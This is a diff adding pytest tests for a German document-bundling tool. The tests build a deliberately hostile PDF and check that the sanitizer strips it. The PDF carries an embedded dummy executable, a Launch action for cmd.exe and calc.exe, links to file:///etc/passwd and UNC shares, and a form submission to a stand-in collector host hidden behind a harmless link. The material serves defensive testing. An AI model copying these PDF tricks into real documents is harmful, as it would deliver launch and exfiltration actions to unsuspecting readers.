@@ -1,0 +1,172 @@
+"""Hostile Anlagen: embedded files and actions that reach outside the bundle are stripped while assembling.
+
+Each hostile PDF is built with pypdf from the project's example Anlage; the bundle is made by the
+real assemble stage (no LibreOffice), then searched object by object for anything that survived.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+from pathlib import Path
+from typing import Any
+
+import pytest
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    FloatObject,
+    IndirectObject,
+    NameObject,
+    TextStringObject,
+)
+
+from docgen.stages.assemble import BundleEntry, BundleMeta, assemble_bundle, page_count
+from docgen.stages.sanitize import sanitize
+
+ROOT = Path(__file__).resolve().parent.parent
+ANLAGE = ROOT / "examples" / "anlagen" / "zielerreichung-2024-2025.pdf"
+META = BundleMeta(title="Vorlage", subject="Vorlage 2025/0412", author="Kreis Musterland",
+                  created=dt.datetime(2025, 11, 3, tzinfo=dt.UTC), creator="docgen test", producer="docgen test")
+UNC = "\\\\host\\share\\plan.pdf"
+FORBIDDEN_ACTIONS = {"/Launch", "/GoToR", "/GoToE", "/ImportData", "/SubmitForm", "/JavaScript"}
+
+
+def _name(value: str) -> NameObject:
+    return NameObject(value)
+
+
+def _action(kind: str, **extra: Any) -> DictionaryObject:
+    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
+    for key, value in extra.items():
+        action[_name(f"/{key}")] = value
+    return action
+
+
+def _link(writer: PdfWriter, action: DictionaryObject, y: float) -> IndirectObject:
+    rect = ArrayObject([FloatObject(72), FloatObject(y), FloatObject(300), FloatObject(y + 20)])
+    return writer._add_object(DictionaryObject({
+        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"), _name("/Rect"): rect,
+        _name("/A"): action}))
+
+
+def _add_annots(page: Any, writer: PdfWriter, annots: list[IndirectObject]) -> None:
+    existing = page.get("/Annots")
+    array = ArrayObject(list(existing.get_object()) if existing is not None else [])
+    array.extend(annots)
+    page[_name("/Annots")] = array
+
+
+def hostile_pdf(path: Path) -> Path:
+    """Every trick at once: EmbeddedFiles, a file-attachment annotation, GoToR to a share, Launch in a page
+    action, file: and UNC links, GoToE, ImportData, SubmitForm behind a harmless link (/Next) and in the outline."""
+    writer = PdfWriter(clone_from=ANLAGE)
+    writer.add_attachment("setup.exe", b"MZ\x90\x00 nicht ausfuehren")
+    page = writer.pages[0]
+    payload = DecodedStreamObject()
+    payload.set_data(b"MZ rechnung")
+    payload[_name("/Type")] = _name("/EmbeddedFile")
+    spec = DictionaryObject({_name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject("rechnung.exe"),
+                             _name("/UF"): TextStringObject("rechnung.exe"),
+                             _name("/EF"): DictionaryObject({_name("/F"): writer._add_object(payload)})})
+    attachment = writer._add_object(DictionaryObject({
+        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/FileAttachment"),
+        _name("/Rect"): ArrayObject([FloatObject(v) for v in (500, 700, 520, 720)]),
+        _name("/FS"): writer._add_object(spec), _name("/Contents"): TextStringObject("Rechnung")}))
+    harmless = _action("/URI", URI=TextStringObject("https://www.example.org/"))
+    harmless[_name("/Next")] = _action("/SubmitForm", F=TextStringObject("http://sammler.example/formular"))
+    _add_annots(page, writer, [
+        attachment,
+        _link(writer, _action("/GoToR", F=TextStringObject(UNC), D=ArrayObject([FloatObject(0)])), 600),
+        _link(writer, _action("/URI", URI=TextStringObject("file:///etc/passwd")), 560),
+        _link(writer, _action("/URI", URI=TextStringObject("\\\\host\\share\\daten.xlsx")), 520),
+        _link(writer, _action("/GoToE", T=DictionaryObject({_name("/R"): _name("/C")})), 480),
+        _link(writer, harmless, 440),
+        _link(writer, _action("/URI", URI=TextStringObject("https://www.kreis-musterland.de/")), 400),
+    ])
+    page[_name("/AA")] = DictionaryObject({_name("/O"): _action(
+        "/Launch", Win=DictionaryObject({_name("/F"): TextStringObject("cmd.exe")}))})
+    outline = writer.add_outline_item(title="Daten laden", page_number=0).get_object()
+    outline[_name("/A")] = _action("/ImportData", F=TextStringObject("daten.fdf"))
+    with path.open("wb") as fh:
+        writer.write(fh)
+    return path
+
+
+def _everything(root: Any) -> list[Any]:
+    """Every dictionary reachable from ``root``."""
+    found, stack, seen = [], [root], set()
+    while stack:
+        item = stack.pop()
+        if isinstance(item, IndirectObject):
+            if item.idnum in seen:
+                continue
+            seen.add(item.idnum)
+            item = item.get_object()
+        if isinstance(item, DictionaryObject):
+            found.append(item)
+            stack.extend(item.values())
+        elif isinstance(item, ArrayObject):
+            stack.extend(item)
+    return found
+
+
+@pytest.fixture
+def bundle(tmp_path: Path) -> tuple[Path, list[Any]]:
+    hostile = hostile_pdf(tmp_path / "plan.pdf")
+    entries = [BundleEntry("Hauptdokument", "Vorlage", ANLAGE, 1),
+               BundleEntry("Anlage 1", "Statistik", ANLAGE, 1),
+               BundleEntry("Anlage 2", "Plan", hostile, page_count(hostile))]
+    result = assemble_bundle(entries, META, tmp_path / "paket.pdf", None)
+    return result.path, result.removed
+
+
+def test_nothing_dangerous_survives_in_the_bundle(bundle: tuple[Path, list[Any]]) -> None:
+    path, _ = bundle
+    reader = PdfReader(path)
+    objects = _everything(reader.trailer["/Root"])
+    assert not [o for o in objects if o.get("/S") in FORBIDDEN_ACTIONS]
+    assert not [o for o in objects if o.get("/Subtype") == "/FileAttachment"]
+    assert not [o for o in objects if "/EF" in o or "/EmbeddedFiles" in o]
+    uris = [str(o["/URI"]) for o in objects if o.get("/S") == "/URI"]
+    assert sorted(uris) == ["https://www.example.org/", "https://www.kreis-musterland.de/"]
+    assert b"setup.exe" not in path.read_bytes() and b"MZ rechnung" not in path.read_bytes()
+    assert len(reader.pages) == 3
+    assert PdfReader(path).trailer["/Root"]["/OutputIntents"]  # harmless parts still make a PDF/A bundle
+
+
+def test_every_removal_is_reported_in_german(bundle: tuple[Path, list[Any]]) -> None:
+    _, removed = bundle
+    assert {r.message for r in removed} == {
+        "Anlage 2 „Plan“: eingebettete Datei „setup.exe“ entfernt",
+        "Anlage 2 „Plan“: Dateianhang „rechnung.exe“ entfernt",
+        f"Anlage 2 „Plan“: Verweis auf eine andere Datei „{UNC}“ entfernt",
+        "Anlage 2 „Plan“: Verweis auf eine Datei oder Freigabe „file:///etc/passwd“ entfernt",
+        "Anlage 2 „Plan“: Verweis auf eine Datei oder Freigabe „\\\\host\\share\\daten.xlsx“ entfernt",
+        "Anlage 2 „Plan“: Sprung in eine eingebettete Datei entfernt",
+        "Anlage 2 „Plan“: Formularversand „http://sammler.example/formular“ entfernt",
+        "Anlage 2 „Plan“: Programmstart „cmd.exe“ entfernt",
+        "Anlage 2 „Plan“: Datenimport „daten.fdf“ entfernt",
+    }
+    entry = next(r for r in removed if r.code == "fremdverweis").as_dict()
+    assert entry == {"bestandteil": "Anlage 2 „Plan“", "code": "fremdverweis", "ziel": UNC,
+                     "meldung": f"Anlage 2 „Plan“: Verweis auf eine andere Datei „{UNC}“ entfernt"}
+
+
+def test_clean_parts_are_left_alone(tmp_path: Path) -> None:
+    reader = PdfReader(ANLAGE)
+    assert sanitize(reader.trailer["/Root"], "Anlage 1 „Statistik“") == []
+
+
+def test_javascript_name_tree_and_open_action_are_removed(tmp_path: Path) -> None:
+    writer = PdfWriter(clone_from=ANLAGE)
+    script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert('hallo');")))
+    writer._root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): DictionaryObject(
+        {_name("/Names"): ArrayObject([TextStringObject("start"), script])})})
+    writer._root_object[_name("/OpenAction")] = _action("/Launch", F=TextStringObject("calc.exe"))
+    removed = sanitize(writer._root_object, "Anlage 3 „Skript“")
+    assert {r.message for r in removed} == {"Anlage 3 „Skript“: JavaScript entfernt",
+                                             "Anlage 3 „Skript“: Programmstart „calc.exe“ entfernt"}
+    assert "/OpenAction" not in writer._root_object
+    assert "/JavaScript" not in writer._root_object["/Names"]
